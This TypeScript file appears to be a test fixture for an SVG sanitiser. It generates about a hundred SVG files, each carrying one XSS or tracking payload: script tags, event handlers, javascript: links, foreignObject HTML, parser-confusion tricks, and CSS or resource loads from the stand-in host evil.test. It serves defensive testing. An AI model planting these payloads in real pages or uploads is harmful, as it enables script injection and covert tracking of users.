/**
 * Ways in which an SVG file can try to run a script or to tell somebody that it is looked at, after the
 * collections that sanitisers are tested with (DOMPurify's fixtures, html5sec, OWASP's and PortSwigger's
 * cheat sheets). Each stands inside of an `<svg>`; whatever runs calls `attack(n)`, and whatever is
 * loaded comes from `http://evil.test/`.
 */
const RUN = (n: number) => `attack(${n})`;

/** By what they abuse. `n` is the number of the attack. */
const WAYS: readonly ((n: number) => string)[] = [
  // Scripts.
  (n) => `<script>${RUN(n)}</script>`,
  (n) => `<script type="text/javascript"><![CDATA[${RUN(n)}]]></script>`,
  (n) => `<script href="data:text/javascript,${RUN(n)}"/>`,
  (n) => `<script xlink:href="data:text/javascript,${RUN(n)}"/>`,
  (n) => `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${RUN(n)}</svg:script>`,
  (n) => `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN(n)}</h:script>`,
  (n) => `<g><defs><script>${RUN(n)}</script></defs></g>`,
  (n) => `<script xmlns="http://www.w3.org/1999/xhtml">${RUN(n)}</script>`,
  (n) => `<switch><script>${RUN(n)}</script></switch>`,
  () => `<script src="http://evil.test/x.js" xmlns="http://www.w3.org/1999/xhtml"/>`,
  // Handlers.
  (n) => `<g onload="${RUN(n)}"/>`,
  (n) => `<svg onload="${RUN(n)}"/>`,
  (n) => `<image href="missing:" onerror="${RUN(n)}"/>`,
  (n) => `<image xlink:href="data:image/png,no" onerror="${RUN(n)}" onload="${RUN(n)}"/>`,
  (n) => `<rect width="99" height="99" onclick="${RUN(n)}"/>`,
  (n) => `<rect width="99" height="99" onmouseover="${RUN(n)}" onmouseenter="${RUN(n)}"/>`,
  (n) => `<rect width="99" height="99" onpointerdown="${RUN(n)}" onmousedown="${RUN(n)}"/>`,
  (n) => `<text tabindex="1" onfocus="${RUN(n)}" autofocus="">x</text>`,
  (n) => `<a href="#x" onfocusin="${RUN(n)}"><text y="9">x</text></a>`,
  (n) => `<style onload="${RUN(n)}">*{}</style>`,
  (n) => `<title onclick="${RUN(n)}">t</title>`,
  (n) => `<desc><g onload="${RUN(n)}"/></desc>`,
  (n) =>
    `<g ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events"><handler>${RUN(n)}</handler></g>`,
  (n) => `<rect ONCLICK="${RUN(n)}" OnLoad="${RUN(n)}"/>`,
  (n) =>
    `<g onanimationstart="${RUN(n)}" style="animation: attack 1ms"/><style>@keyframes attack{to{opacity:1}}</style>`,
  (n) => `<g ontransitionend="${RUN(n)}" style="transition: opacity 1ms"/>`,
  // Links.
  (n) => `<a href="javascript:${RUN(n)}"><rect width="99" height="99"/></a>`,
  (n) => `<a xlink:href="javascript:${RUN(n)}"><text y="9">x</text></a>`,
  (n) => `<a href="java&#10;script:${RUN(n)}"><rect width="99" height="99"/></a>`,
  (n) => `<a href=" &#1;javascript:${RUN(n)}"><rect width="99" height="99"/></a>`,
  (n) => `<a href="JaVaScRiPt:${RUN(n)}"><rect width="99" height="99"/></a>`,
  (n) =>
    `<a href="data:text/html,%3Cscript%3Etop.${RUN(n)}%3C/script%3E"><rect width="99" height="99"/></a>`,
  (n) => `<a href="vbscript:${RUN(n)}"><rect width="99" height="99"/></a>`,
  (n) =>
    `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${RUN(n)}"><mtext>x</mtext></math>`,
  // Animation that writes an address or a handler.
  (n) =>
    `<a><animate attributeName="href" values="javascript:${RUN(n)}"/><rect width="99" height="99"/></a>`,
  (n) =>
    `<a><set attributeName="href" to="javascript:${RUN(n)}"/><rect width="99" height="99"/></a>`,
  (n) =>
    `<a><animate attributeName="xlink:href" from="javascript:${RUN(n)}" to="#"/><rect width="99" height="99"/></a>`,
  (n) => `<g><set attributeName="onclick" to="${RUN(n)}"/><rect width="99" height="99"/></g>`,
  (n) => `<animate onbegin="${RUN(n)}" attributeName="x" dur="1s"/>`,
  (n) => `<set onbegin="${RUN(n)}" attributeName="x" dur="1s"/>`,
  (n) => `<animateTransform onbegin="${RUN(n)}" attributeName="transform"/>`,
  (n) => `<animateMotion onend="${RUN(n)}" dur="1ms"><mpath href="#p"/></animateMotion>`,
  (n) => `<discard onbegin="${RUN(n)}"/>`,
  // Parts of other documents.
  (n) =>
    `<use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN(n)}'/&gt;#x"/>`,
  (n) =>
    `<use xlink:href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;script&gt;${RUN(n)}&lt;/script&gt;&lt;/svg&gt;#x"/>`,
  () => `<use href="http://evil.test/x.svg#x"/>`,
  (n) =>
    `<image href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${RUN(n)}'/&gt;"/>`,
  () => `<image href="http://evil.test/x.png" width="9" height="9"/>`,
  () => `<image xlink:href="//evil.test/x.png" width="9" height="9"/>`,
  () => `<feImage href="http://evil.test/x.png"/>`,
  () => `<linearGradient href="http://evil.test/x.svg#x"/>`,
  () => `<pattern xlink:href="http://evil.test/x.svg#x"/>`,
  () => `<textPath href="http://evil.test/x.svg#x">x</textPath>`,
  // HTML.
  (n) =>
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;top.${RUN(n)}&lt;/script&gt;"/></foreignObject>`,
  (n) =>
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:top.${RUN(n)}"/></foreignObject>`,
  (n) =>
    `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="missing:" onerror="${RUN(n)}"/></foreignObject>`,
  () =>
    `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test/x.png"/></foreignObject>`,
  () =>
    `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" srcset="http://evil.test/x.png 1x"/></foreignObject>`,
  (n) =>
    `<foreignObject><video xmlns="http://www.w3.org/1999/xhtml"><source src="missing:" onerror="${RUN(n)}"/></video></foreignObject>`,
  (n) =>
    `<foreignObject><audio xmlns="http://www.w3.org/1999/xhtml" src="missing:" onerror="${RUN(n)}"/></foreignObject>`,
  (n) =>
    `<foreignObject><details xmlns="http://www.w3.org/1999/xhtml" open="" ontoggle="${RUN(n)}">x</details></foreignObject>`,
  (n) =>
    `<foreignObject><input xmlns="http://www.w3.org/1999/xhtml" autofocus="" onfocus="${RUN(n)}"/></foreignObject>`,
  (n) =>
    `<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="javascript:${RUN(n)}"><button>x</button></form></foreignObject>`,
  (n) =>
    `<foreignObject><button xmlns="http://www.w3.org/1999/xhtml" form="f" formaction="javascript:${RUN(n)}">x</button></foreignObject>`,
  (n) =>
    `<foreignObject><object xmlns="http://www.w3.org/1999/xhtml" data="javascript:${RUN(n)}"/></foreignObject>`,
  (n) =>
    `<foreignObject><object xmlns="http://www.w3.org/1999/xhtml" data="data:text/html,%3Cscript%3Etop.${RUN(n)}%3C/script%3E"/></foreignObject>`,
  () =>
    `<foreignObject><embed xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test/x.swf"/></foreignObject>`,
  () =>
    `<foreignObject><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="http://evil.test/x.css"/></foreignObject>`,
  () =>
    `<foreignObject><base xmlns="http://www.w3.org/1999/xhtml" href="http://evil.test/"/></foreignObject>`,
  (n) =>
    `<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;javascript:${RUN(n)}"/></foreignObject>`,
  (n) =>
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN(n)}">x</body></foreignObject>`,
  (n) =>
    `<foreignObject><template xmlns="http://www.w3.org/1999/xhtml"><img src="missing:" onerror="${RUN(n)}"/></template></foreignObject>`,
  (n) =>
    `<foreignObject><a xmlns="http://www.w3.org/1999/xhtml" href="javascript:${RUN(n)}">x</a></foreignObject>`,
  (n) =>
    `<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><table xmlns="http://www.w3.org/1999/xhtml"><mglyph><style><img src="missing:" onerror="${RUN(n)}"/></style></mglyph></table></mtext></math></foreignObject>`,
  (n) =>
    `<foreignObject><x-attack xmlns="http://www.w3.org/1999/xhtml" onclick="${RUN(n)}">x</x-attack></foreignObject>`,
  // What a parser might read otherwise the second time.
  (n) => `<style><![CDATA[</style><img src="missing:" onerror="${RUN(n)}"/>]]></style>`,
  (n) => `<title>&lt;/title&gt;&lt;img src="missing:" onerror="${RUN(n)}"&gt;</title>`,
  (n) => `<desc><![CDATA[<img src=missing: onerror=${RUN(n)}>]]></desc>`,
  (n) => `<metadata><![CDATA[<script>${RUN(n)}</script>]]></metadata>`,
  (n) => `<text>&lt;script&gt;${RUN(n)}&lt;/script&gt;</text>`,
  (n) => `<g id="&quot;&gt;&lt;img src=missing: onerror=${RUN(n)}&gt;"/>`,
  (n) =>
    `<noscript xmlns="http://www.w3.org/1999/xhtml"><p title="&lt;/noscript&gt;&lt;img src=missing: onerror=${RUN(n)}&gt;"/></noscript>`,
  // Names that would hide those of the page.
  () => `<g id="location"/><g id="cookie"/><g id="Reveal"/><g id="deck"/>`,
  () => `<g id="__proto__"/><g id="constructor"/>`,
  // Styles.
  () => `<style>@import "http://evil.test/x.css";</style>`,
  () => `<style>@import url(http://evil.test/x.css);</style>`,
  () =>
    `<style>@font-face{font-family:f;src:url(http://evil.test/f.woff2)} text{font-family:f}</style><text>x</text>`,
  () => `<style>rect{fill:url(http://evil.test/x.svg#x)}</style><rect width="9" height="9"/>`,
  () =>
    `<style>rect{background-image:image-set("http://evil.test/x.png" 1x)}</style><rect width="9" height="9"/>`,
  () =>
    `<style>:root{background:url(http://evil.test/root.png)} body{background:url(http://evil.test/body.png)}</style>`,
  () => `<style>.reveal, .slides, h1{display:none!important}</style>`,
  () => `<style>}} .reveal{display:none!important}</style>`,
  () => `<rect style="fill:url(http://evil.test/x.svg#x)" width="9" height="9"/>`,
  () => `<rect style="background:u\\72l(http://evil.test/x.png)" width="9" height="9"/>`,
  () =>
    `<foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml" style="background:url(http://evil.test/x.png)">x</div></foreignObject>`,
  () =>
    `<foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml" style="list-style:url(http://evil.test/x.png);content:url(//evil.test/y.png)">x</div></foreignObject>`,
  () => `<rect fill="url(http://evil.test/x.svg#x)" width="9" height="9"/>`,
  () =>
    `<rect filter="url('http://evil.test/x.svg#x')" mask="url(//evil.test/y.svg#y)" clip-path="url(http://evil.test/z.svg#z)" width="9" height="9"/>`,
  () => `<g cursor="url(http://evil.test/x.cur), auto"/>`,
  () => `<?xml-stylesheet href="http://evil.test/x.css"?>`,
  (n) => `<?xml-stylesheet type="text/xsl" href="data:text/xsl,${RUN(n)}"?>`,
];

/** The files. */
export const attacks: readonly string[] = WAYS.map(
  (way, n) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 16 9">${way(n)}<path id="p" d="M0 0h9v9" stroke="red" data-step="1"/></svg>`,
);
